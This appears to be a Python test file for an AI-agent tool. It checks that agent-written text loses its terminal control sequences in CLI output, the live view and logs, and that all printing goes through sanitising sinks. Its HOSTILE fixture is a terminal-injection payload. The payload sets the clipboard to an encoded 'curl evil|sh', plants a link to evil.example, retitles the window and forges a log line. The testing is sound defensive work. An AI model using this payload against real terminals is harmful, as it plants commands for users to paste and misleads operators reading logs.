"""Text an agent wrote never reaches a person's terminal or log as a control sequence: every
print of the package goes through the sinks that make it plain (cli/output.py,
autopilot/view.py, the log format), and those sinks are fed hostile text here."""

import ast
import io
import logging

import pytest

from tests.conftest import ROOT
from tests.unit.test_autopilot_view import COUNTS
from wvo_mcp.autopilot import run_logs, view
from wvo_mcp.cli import entry, output
from wvo_mcp.models import Checkpoint

# What a hostile agent writes: the clipboard set to a command (OSC 52), a link (OSC 8), a new
# window title, and a line erased and forged on a line of its own.
HOSTILE = (
    "tests fail\x1b]52;c;Y3VybCBldmlsfHNo\x07 see \x1b]8;;https://evil.example\x1b\\here"
    "\x1b]8;;\x1b\\ \x1b]0;owned\x07\r\x1b[2K\n12:00:00 T1 landed onto main (reviewed)\x9b2J"
)
CONTROL = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))]

# The only modules that write to a stream themselves, and why each may.
SINKS = {
    "wvo_mcp/cli/output.py": "the CLI's sink: each function makes what it prints plain",
    "wvo_mcp/autopilot/view.py": "the live block: each line made plain, then its own escapes",
    "wvo_mcp/autopilot/fake.py": "a stand-in worker CLI: its stdout is what the autopilot reads",
    "wvo_mcp/autopilot/fake_probe.py": "the same stand-in's probe, inside the sandbox",
    "wvo_mcp/sandbox/relay.py": "runs inside the sandbox: what it writes is the sandbox's output",
    "wvo_mcp/autopilot/acp_driver.py": "runs inside the sandbox: its stdout is what the "
    "autopilot reads, as JSON lines",
    "wvo_mcp/autopilot/fake_acp.py": "a stand-in ACP agent: its stdout is the protocol",
}


def _writes(tree: ast.AST) -> list[int]:
    """Lines of calls that write to a terminal without a sink: print(), and .write() on
    sys.stdout or sys.stderr."""
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        if isinstance(func, ast.Name) and func.id == "print":
            found.append(node.lineno)
        elif isinstance(func, ast.Attribute) and func.attr in ("write", "writelines"):
            target = ast.unparse(func.value)
            if target in ("sys.stdout", "sys.stderr", "sys.__stdout__", "sys.__stderr__"):
                found.append(node.lineno)
    return found


def test_every_print_of_the_package_goes_through_a_sink() -> None:
    unsunk = {}
    for path in sorted((ROOT / "wvo_mcp").rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        if name in SINKS:
            continue
        lines = _writes(ast.parse(path.read_text(), name))
        if lines:
            unsunk[name] = lines
    assert not unsunk, (
        f"these write to a terminal directly: {unsunk}; use cli/output.py's say, show, warn "
        "or table (rules/text.plain), which a hostile agent's text cannot escape from"
    )


def test_the_lint_finds_a_print_it_must_refuse() -> None:
    assert _writes(ast.parse("import sys\nprint(x)\nsys.stderr.write(y)\n")) == [2, 3]


def _clean(text: str) -> None:
    assert not [c for c in text if c in CONTROL and c != "\n"], repr(text)
    assert not any(line.startswith("12:00:00 T1 landed") for line in text.splitlines())


def test_the_clis_sinks_leave_no_control_sequence(capsys: pytest.CaptureFixture[str]) -> None:
    output.say(f"released T1: worker ended (failure): {HOSTILE}")
    output.warn(f"wvo-mcp: {HOSTILE}")
    output.table(["task", "title"], [["T1", HOSTILE]])
    output.print_json({"summary": HOSTILE})
    captured = capsys.readouterr()
    _clean(captured.out)
    _clean(captured.err)
    assert len(captured.err.splitlines()) == 1
    # Text of many lines (a check's output, a context section) keeps its line breaks, and
    # no escape that could erase the line before.
    output.show(f"a check's output:\n{HOSTILE}\n")
    shown = capsys.readouterr().out
    assert not [c for c in shown if c in CONTROL and c != "\n"], repr(shown)
    assert shown.splitlines()[-1].startswith("12:00:00 T1 landed")


def test_a_run_log_keeps_no_control_sequence() -> None:
    out = io.StringIO()
    run_logs.RunLog(out).write(f"{HOSTILE}\n")
    assert not [c for c in out.getvalue() if c in CONTROL and c != "\n"]


def test_the_live_block_draws_only_its_own_escapes() -> None:
    out = io.StringIO()
    terminal = view.Terminal(out)
    checkpoint = Checkpoint(seq=1, agent_id="a", summary=HOSTILE, created_at="t")
    lines = view.block("running", [view.Running("a", "T1", 5, checkpoint)], COUNTS, {})
    terminal.draw(lines)
    terminal.say(f"12:00:01 released T1: worker ended (failure): {HOSTILE}", lines)
    text = out.getvalue()
    own = text.replace("\x1b[3F\x1b[J", "")  # its redraw: up to the block, clear below
    _clean(own)


def test_a_log_line_is_one_plain_line() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(entry.PlainFormatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("test_terminal_text")
    logger.addHandler(handler)
    try:
        logger.warning("planner said: %s", HOSTILE)
    finally:
        logger.removeHandler(handler)
    _clean(stream.getvalue())
    assert len(stream.getvalue().splitlines()) == 1


def test_the_sinks_are_the_files_named() -> None:
    assert [name for name in SINKS if not (ROOT / name).is_file()] == []
